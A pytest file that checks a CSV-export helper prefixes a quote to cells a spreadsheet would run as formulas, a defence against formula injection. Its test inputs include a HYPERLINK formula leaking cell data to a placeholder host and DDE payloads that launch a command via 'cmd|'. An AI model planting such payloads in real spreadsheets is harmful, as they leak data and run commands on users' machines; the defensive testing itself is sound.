"""CSV cells a spreadsheet would run are escaped (#20, R20): one helper for every CSV."""

from __future__ import annotations

import pytest

from app.csvexport import safe_cell


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+", "'+"),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_first(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value", ["+8613800138000", "-1.5", "13800138000", "Wang Fang",
                                   "general", "", "2026-11-23T15:30:00+00:00", "a=b"])
def test_plain_values_and_signed_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_non_strings_pass_through_and_none_is_empty():
    assert (safe_cell(3), safe_cell(-2.5), safe_cell(None), safe_cell(True)) == (3, -2.5, "", True)
